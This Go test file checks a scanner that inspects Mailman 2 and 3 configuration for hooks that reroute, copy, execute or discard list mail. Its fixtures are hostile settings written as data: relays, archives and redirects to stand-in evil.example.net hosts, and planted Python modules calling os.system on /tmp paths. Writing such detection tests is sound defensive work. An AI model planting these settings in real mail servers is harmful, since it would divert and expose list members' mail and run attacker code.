package mailman

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"waxseal"
	"waxseal/internal/mask"
	"waxseal/internal/mta"
	"waxseal/internal/snapshot"
)

func read(files map[string]string) mta.Result {
	return Read(snapshot.Files(files), mask.New([]byte("k")), mta.Options{Package: mta.NoPackages, Domains: []string{"example.test"}})
}

func told(r mta.Result) string {
	var b strings.Builder
	for _, h := range r.Hooks {
		extra := ""
		if h.Target.Remote {
			extra += " remote"
		}
		if why := h.Modifiers["inactive"]; why != "" {
			extra += " (" + why + ")"
		}
		fmt.Fprintf(&b, "%s %s:%d %s%s | %s\n", h.Kind, h.Directive, h.Source.Line, h.Target.Value, extra, h.Scope)
	}
	return b.String()
}

const cfg = "/etc/mailman3/mailman.cfg"

// stock is what Debian's package sets up, shortened.
const stock = `[mailman]
site_owner: changeme@example.com
html_to_plain_text_command: /usr/bin/lynx -dump $filename
pre_hook:
layout: debian
[paths.debian]
var_dir: /var/lib/mailman3
[database]
class: mailman.database.sqlite.SQLiteDatabase
url: sqlite:////var/lib/mailman3/data/mailman.db
[webservice]
hostname: localhost
admin_pass: geheim
[mta]
incoming: mailman.mta.postfix.LMTP
outgoing: mailman.mta.deliver.deliver
lmtp_host: 127.0.0.1
configuration: python:mailman.config.postfix
[archiver.hyperkitty]
class: mailman_hyperkitty.Archiver
enable: yes
configuration: /etc/mailman3/mailman-hyperkitty.cfg
`

const keeper = "[general]\nbase_url: http://localhost/mailman3/hyperkitty/\napi_key: geheim\n"

func TestHooks(t *testing.T) {
	for _, tc := range []struct {
		name  string
		files map[string]string
		want  string
	}{
		{"nothing", map[string]string{"/etc/passwd": ""}, ""},
		{"stock", map[string]string{cfg: stock, "/etc/mailman3/mailman-hyperkitty.cfg": keeper, "/etc/mailman3/old.cfg": "x"}, ""},
		{"a relay", map[string]string{cfg: "[mta]\nsmtp_host: smtp.evil.example.net\nsmtp_port: 2525\n"}, "relay smtp_host:2 [smtp.evil.example.net]:2525 remote | all mail of lists\n"},
		{"code", map[string]string{cfg: "[mailman]\npre_hook: evil.run\n[mta]\nincoming: evil.LMTP\n[plugin.x]\nclass: evil.Plugin\nenabled: yes\n[plugin.y]\nclass: evil.Y\n", "/usr/local/lib/python3.11/dist-packages/evil.py": "import os\nos.system('/tmp/x')\n"},
			"plugin pre_hook:2 /usr/local/lib/python3.11/dist-packages/evil.py | all mail of lists\nscript pre_hook:1 /usr/local/lib/python3.11/dist-packages/evil.py | all mail of lists\nexpansion_exec pre_hook:2 /tmp/x | all mail of lists\n" +
				"plugin incoming:4 /usr/local/lib/python3.11/dist-packages/evil.py | all mail of lists\nscript incoming:1 /usr/local/lib/python3.11/dist-packages/evil.py | all mail of lists\nexpansion_exec incoming:2 /tmp/x | all mail of lists\n" +
				"plugin class:6 /usr/local/lib/python3.11/dist-packages/evil.py | all mail of lists\nscript class:1 /usr/local/lib/python3.11/dist-packages/evil.py | all mail of lists\nexpansion_exec class:2 /tmp/x | all mail of lists\n" +
				"plugin class:9 evil.Y (the plugin is not enabled) | all mail of lists\n"},
		{"an archive elsewhere", map[string]string{cfg: stock, "/etc/mailman3/mailman-hyperkitty.cfg": "[general]\nbase_url: https://lists.evil.example.net/hyperkitty/\n"}, "copy base_url:2 lists.evil.example.net remote | all mail of lists\n"},
		{"an archive of this site", map[string]string{cfg: stock, "/etc/mailman3/mailman-hyperkitty.cfg": "[general]\nbase_url: https://lists.example.test/hyperkitty/\n"}, ""},
		{"archived to an address", map[string]string{cfg: "[archiver.mail_archive]\nenable: yes\nconfiguration: /etc/m.cfg\n[archiver.mhonarc]\nenable: yes\nconfiguration: /etc/h.cfg\n", "/etc/m.cfg": "[general]\nrecipient: drop@evil.example.net\n", "/etc/h.cfg": "[general]\ncommand: /tmp/x -add\n"},
			"copy recipient:2 drop@evil.example.net remote | all mail of lists\npipe command:2 /tmp/x -add | all mail of lists\n"},
		{"archived to the public", map[string]string{cfg: "[archiver.mail_archive]\nenable: yes\n"}, "copy enable:2 archive@mail-archive.com remote | all mail of lists\n"},
		{"archives that are off", map[string]string{cfg: "[archiver.x]\nclass: evil.A\nenable: no\n"}, "plugin class:2 evil.A (the archiver is not enabled) | all mail of lists\n"},
		{"all mail to one", map[string]string{cfg: "[devmode]\nenabled: yes\nrecipient: drop@evil.example.net\n"}, "redirect recipient:3 drop@evil.example.net remote | all mail of lists\n"},
		{"nobody is all mail's", map[string]string{cfg: "[devmode]\nenabled: no\nrecipient: drop@evil.example.net\n"}, ""},
		{"a database elsewhere", map[string]string{cfg: "[database]\nurl: postgres://u:geheim@db.evil.example.net/m\n"}, "map url:2 postgres:db.evil.example.net remote | all mail of lists\n"},
		{"commands", map[string]string{cfg: "[mailman]\nhtml_to_plain_text_command: /tmp/x $filename\n[mta]\nconfiguration: /etc/mailman3/postfix.cfg\n", "/etc/mailman3/postfix.cfg": "[postfix]\npostmap_command: /tmp/y\n"},
			"pipe html_to_plain_text_command:2 /tmp/x $filename | all mail of lists\npipe postmap_command:2 /tmp/y | all mail of lists\n"},
		{"thrown away", map[string]string{cfg: "[antispam]\nheader_checks:\n    X-Spam-Flag: YES\njump_chain: discard\n[logging.smtp]\npath: /dev/null\n"}, "discard jump_chain:4 discard | header X-Spam-Flag: YES\nlog path:6 /dev/null | all mail of lists\n"},
		{"web pages", map[string]string{"/etc/mailman3/mailman-web.py": "SECRET_KEY = 'geheim'\nEMAIL_HOST = 'smtp.evil.example.net'\n", cfg: "[mailman]\n"},
			"script settings.py:1 /etc/mailman3/mailman-web.py | all mail of lists\nrelay EMAIL_HOST:2 smtp.evil.example.net remote | all mail of lists\n"},
		{"mailman 2", map[string]string{
			"/etc/mailman/mm_cfg.py": "from Defaults import *\nSMTPHOST = 'smtp.evil.example.net'\nPOSTFIX_ALIAS_CMD = '/tmp/x'\nMTA='Postfix'\nGLOBAL_PIPELINE[3:3] = ['Moderate', 'Mirror']\nDELIVERY_MODULE = 'Evil'\nimport os\nos.system('/tmp/y')\n", "/var/lib/mailman/lists/l/extend.py": "import os\nos.system('/tmp/z')\n",
			"/var/lib/mailman/lists/l/config.pck": "geheim"},
			"script mm_cfg.py:1 /etc/mailman/mm_cfg.py | all mail of lists\nexpansion_exec mm_cfg.py:8 /tmp/y | all mail of lists\npipe POSTFIX_ALIAS_CMD:3 /tmp/x | all mail of lists\nrelay SMTPHOST:2 smtp.evil.example.net remote | all mail of lists\n" +
				"plugin DELIVERY_MODULE:6 Evil | all mail of lists\nplugin GLOBAL_PIPELINE:5 Mailman.Handlers.Mirror | all mail of lists\nplugin extend.py:0 /var/lib/mailman/lists/l/extend.py | list l\nscript extend.py:1 /var/lib/mailman/lists/l/extend.py | list l\nexpansion_exec extend.py:2 /tmp/z | list l\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := read(tc.files)
			if got := told(r); got != tc.want {
				t.Errorf("got\n%swant\n%s", got, tc.want)
			}
			if strings.Contains(fmt.Sprintf("%+v", r), "geheim") {
				t.Error("a password is told")
			}
			allNoted(t, r, tc.files)
		})
	}
}

// allNoted: every file is a part, and one with a password is no text.
func allNoted(t *testing.T, r mta.Result, files map[string]string) {
	t.Helper()
	roles := map[string]waxseal.Role{}
	for _, p := range r.Parts {
		roles[string(p.Path)] = p.Role
	}
	for _, h := range r.Hooks {
		for _, p := range h.Closure {
			roles[string(p.Path)] = p.Role
		}
	}
	for p, text := range files {
		role, ok := roles[p]
		if !ok && p != "/etc/passwd" {
			t.Errorf("%s is not listed", p)
		}
		if strings.Contains(mask.New(nil).Text(role, text), "geheim") && role.Text() {
			t.Errorf("%s holds a password and is kept as %s", p, role)
		}
	}
}

// TestLookAlike: what has no effect leaves every setting as it was.
func TestLookAlike(t *testing.T) {
	settings := func(text string) (list []string) {
		for _, s := range read(map[string]string{cfg: text}).Settings {
			list = append(list, s.Name+"="+s.Value)
		}
		slices.Sort(list)
		return list
	}
	a := settings("[mta]\nsmtp_host: localhost\nsmtp_port: 25\n[antispam]\nheader_checks: X-A: b X-C: d\n")
	b := settings("# c\n[antispam]\nheader_checks:\n  X-A: b\n  X-C: d\n; c\n\n[mta]\nSMTP_PORT = 25\nsmtp_host=localhost\n")
	if !slices.Equal(a, b) {
		t.Errorf("%q\n%q", a, b)
	}
}

func FuzzRead(f *testing.F) {
	f.Add(stock, "SMTPHOST = 'x'\nMTA='a.b'\n", keeper)
	f.Add("[plugin.x]\nclass: a.b\nenabled: yes\n[archiver.x]\nenable: 1\nconfiguration: /etc/mailman3/k.cfg\n", "X='\n", "[general]\nbase_url: ://@\n x\nrecipient=@\n")
	f.Fuzz(func(t *testing.T, ini, python, archive string) {
		r := read(map[string]string{cfg: ini, "/etc/mailman/mm_cfg.py": python, "/etc/mailman3/mailman-web.py": python, "/etc/mailman3/mailman-hyperkitty.cfg": archive, "/etc/mailman3/k.cfg": archive})
		for _, h := range r.Hooks {
			if h.ID == "" || h.Explain == "" || h.Source.Path == "" || h.Kind == "" {
				t.Errorf("a hook with nothing to say: %+v", h)
			}
		}
	})
}
